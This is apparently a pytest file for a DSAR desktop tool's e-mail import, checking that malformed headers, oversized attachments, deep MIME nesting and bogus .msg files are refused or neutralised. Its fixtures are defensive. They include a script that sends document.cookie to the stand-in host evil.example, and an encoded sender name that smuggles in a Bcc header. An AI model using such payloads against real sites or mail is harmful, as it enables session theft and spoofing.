"""Hostile messages: malformed headers, encoded-word tricks in names, a 200 MB attachment, HTML with remote content
and scripts, deep nesting, too many attachments, a .msg that is not OLE; each gets one clear sentence, and nothing
of a message is written to disk outside the register."""

from __future__ import annotations

import base64
import os
import tempfile
from email.mime.multipart import MIMEMultipart
from email.mime.text import MIMEText
from pathlib import Path

import pytest

from dsar_desktop.domain import mail as rules
from dsar_desktop.services import mail_in, mail_read
from dsar_desktop.store.connection import Register

from .mail_support import compound_file, eml, outlook_msg


def test_malformed_headers_still_give_what_can_be_read() -> None:
    raw = (
        b"Received: garbage without a date\r\n"
        b"From: =?utf-8?q?broken <<<@@@>\r\n"
        b"Date: 99 Foo 20xx 99:99\r\n"
        b"Subject: =?unknown-charset?b?SGVsbG8=?=\r\n"
        b"Message-ID: <a\x01b@x>\r\n"
        b"Content-Type: text/plain; charset=x-no-such-charset\r\n\r\n"
        b"Je souhaite exercer mon droit d'acc\xe8s.\r\n"
    )
    mail = mail_in.read_bytes(raw, "bad.eml")
    assert mail.sender_email == ""
    assert mail.receipt.at is None
    notes = " ".join(en for en, _ in mail.notes)
    assert "sender's address cannot be read" in notes and "type the date" in notes
    assert "\x01" not in mail.message_id
    # an unknown charset name: the text is read as UTF-8, else Latin-1, which never fails
    assert "droit d'accès" in mail.text and [h.right.value for h in mail.rights] == ["access"]


def test_encoded_word_tricks_in_the_sender_name_are_neutralised() -> None:
    fake = "Service DPO <dpo@ecole.example.fr>\r\nBcc: everyone@example.org"
    encoded = "=?utf-8?b?" + base64.b64encode(fake.encode()).decode() + "?="
    raw = eml(sender="Placeholder <attacker@evil.example>").replace(b"Placeholder", encoded.encode())
    mail = mail_in.read_bytes(raw, "trick.eml")
    assert mail.sender_email == "attacker@evil.example"
    assert (
        "dpo@ecole.example.fr" not in mail.sender_name
        and "\n" not in mail.sender_name
        and "\r" not in mail.sender_name
    )
    assert any("another address (dpo@ecole.example.fr)" in en for en, _ in mail.notes)
    bidi = "=?utf-8?b?" + base64.b64encode("Jean \u202eelpmaxe\u202c DUPONT".encode()).decode() + "?="
    mail = mail_in.read_bytes(
        eml(sender="Placeholder <jean@example.org>").replace(b"Placeholder", bidi.encode()), "bidi.eml"
    )
    assert "\u202e" not in mail.sender_name and "\u202c" not in mail.sender_name
    assert mail.sender_name.startswith("Jean") and mail.sender_email == "jean@example.org"
    long_name = "=?utf-8?b?" + base64.b64encode(("A" * 5000).encode()).decode() + "?="
    mail = mail_in.read_bytes(
        eml(sender="Placeholder <a@example.org>").replace(b"Placeholder", long_name.encode()), "long.eml"
    )
    assert len(mail.sender_name) == rules.MAX_NAME_CHARS


def _write_huge_eml(path: Path, attachment_bytes: int) -> None:
    """A message with one attachment of `attachment_bytes`, streamed to disk in base64 lines (never in memory)."""
    chunk = base64.encodebytes(b"\0" * 57 * 16384)  # 16384 lines of 76 characters
    with path.open("wb") as out:
        out.write(
            b"Received: from a by mx; Sun, 31 Jan 2027 23:30:00 +0000\r\nFrom: A <a@example.org>\r\n"
            b"Subject: big\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=XX\r\n\r\n"
            b"--XX\r\nContent-Type: text/plain\r\n\r\nvoir PJ\r\n--XX\r\nContent-Type: application/pdf\r\n"
            b"Content-Disposition: attachment; filename=big.pdf\r\nContent-Transfer-Encoding: base64\r\n\r\n"
        )
        written = 0
        while written < attachment_bytes:
            out.write(chunk)
            written += 57 * 16384
        out.write(b"--XX--\r\n")


def test_a_200_mb_attachment_is_refused_before_it_is_read(tmp_path: Path) -> None:
    path = tmp_path / "huge.eml"
    _write_huge_eml(path, 200 * 1024 * 1024)
    assert path.stat().st_size > 260 * 1024 * 1024
    with pytest.raises(mail_read.MailTooLarge) as refused:
        mail_in.read_file(path)
    assert "limited to 40 MB" in refused.value.describe("en") and "limités à 40 Mo" in refused.value.describe(
        "fr"
    )


def test_an_attachment_over_its_own_limit_is_left_out_and_said(
    monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    monkeypatch.setattr(rules, "MAX_ATTACHMENT_BYTES", 1024 * 1024)
    path = tmp_path / "two.eml"
    _write_huge_eml(path, 2 * 1024 * 1024)
    mail = mail_in.read_file(path)
    assert mail.attachments == [] and mail.partial
    assert any("big.pdf is 2.7 MB" in en and "left out" in en for en, _ in mail.notes)
    assert mail.text.strip() == "voir PJ"


def test_html_with_remote_images_and_scripts_becomes_plain_text() -> None:
    html = (
        "<html><head><script>document.location='http://evil.example/?c='+document.cookie</script>"
        "<style>body{background:url(http://evil.example/bg.png)}</style></head><body>"
        "<p>Je souhaite <b>supprimer mes données</b>.</p><img src='http://evil.example/pixel.gif' alt=''>"
        "<iframe src='http://evil.example/frame'>cadre</iframe><p>Cordialement &amp; merci</p></body></html>"
    )
    mail = mail_in.read_bytes(eml(body="", html=html, subject="Demande"), "html.eml")
    assert mail.text == "Je souhaite supprimer mes données.\n\nCordialement & merci"
    assert "evil.example" not in mail.text and "<" not in mail.text
    assert mail.text_from_html and [h.right.value for h in mail.rights] == ["erasure"]


def test_deep_nesting_and_too_many_parts_are_refused() -> None:
    inner: MIMEText | MIMEMultipart = MIMEText("x")
    for _ in range(rules.MAX_MIME_DEPTH + 2):
        outer = MIMEMultipart()
        outer.attach(inner)
        inner = outer
    inner["From"] = "a@example.org"
    with pytest.raises(mail_read.MailTooDeep) as refused:
        mail_in.read_bytes(inner.as_bytes(), "deep.eml")
    assert "more than 8 levels" in str(refused.value)
    wide = MIMEMultipart()
    wide["From"] = "a@example.org"
    for _ in range(rules.MAX_MIME_PARTS + 1):
        wide.attach(MIMEText("y"))
    with pytest.raises(mail_read.MailTooDeep):
        mail_in.read_bytes(wide.as_bytes(), "wide.eml")


def test_too_many_attachments_keeps_the_first_and_says_so() -> None:
    files = [(f"f{i}.txt", "text/csv", b"x") for i in range(rules.MAX_ATTACHMENTS + 5)]
    mail = mail_in.read_bytes(eml(attachments=files), "many.eml")
    assert len(mail.attachments) == rules.MAX_ATTACHMENTS and mail.partial
    assert any(f"only the first {rules.MAX_ATTACHMENTS}" in en for en, _ in mail.notes)


def test_a_msg_that_is_not_ole_and_an_ole_file_that_is_not_a_message() -> None:
    with pytest.raises(mail_read.MailNotOutlook) as refused:
        mail_in.read_bytes(eml(), "request.msg")
    assert "not an Outlook message" in refused.value.describe("en")
    with pytest.raises(mail_read.MailOutlookDamaged):
        mail_in.read_bytes(compound_file({"WordDocument": b"\0" * 600}), "word.msg")
    with pytest.raises(mail_read.MailOutlookDamaged):
        mail_in.read_bytes(outlook_msg()[:1500], "cut.msg")


def test_empty_and_non_mail_files_get_one_sentence(tmp_path: Path) -> None:
    with pytest.raises(mail_read.MailEmpty):
        mail_in.read_bytes(b"  \r\n", "empty.eml")
    with pytest.raises(mail_read.MailNotAMessage) as refused:
        mail_in.read_bytes(os.urandom(2000).replace(b":", b"."), "noise.eml")
    assert "not an e-mail" in refused.value.describe("en")
    with pytest.raises(mail_read.MailUnreadableFile):
        mail_in.read_file(tmp_path / "missing.eml")


def test_nothing_of_a_message_is_written_to_disk_outside_the_register(
    register: Register, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    scratch = tmp_path / "scratch"
    scratch.mkdir()
    monkeypatch.setenv("TMPDIR", str(scratch))
    monkeypatch.setattr(tempfile, "tempdir", str(scratch))
    source = tmp_path / "in"
    source.mkdir()
    files = [("carte-identite.jpg", "image/jpeg", b"\xff\xd8\xff" + b"secret-bytes" * 500)]
    (source / "a.msg").write_bytes(outlook_msg(attachments=files))
    (source / "b.eml").write_bytes(eml(attachments=files, message_id="<b@x>"))
    before = {p for p in tmp_path.rglob("*")}
    for path in sorted(source.iterdir()):
        mail = mail_in.read_file(path)
        mail_in.add_case_from_mail(register, mail_in.suggested_case(mail), mail)
    created = {p for p in tmp_path.rglob("*")} - before
    assert not list(scratch.iterdir())
    # the register, and the file of the keys each message part is sealed under (keys only, encrypted)
    assert all(p.name.startswith(("test.dsar", "scan-keys-")) for p in created), created
    assert sorted(p.suffix for p in created if p.name.startswith("scan-keys-")) == [".dsarkeys", ".lock"]
    register.checkpoint()
    for path in [*tmp_path.glob("test.dsar*"), *tmp_path.glob("scan-keys-*")]:
        assert b"secret-bytes" not in path.read_bytes() and b"carte-identite" not in path.read_bytes()
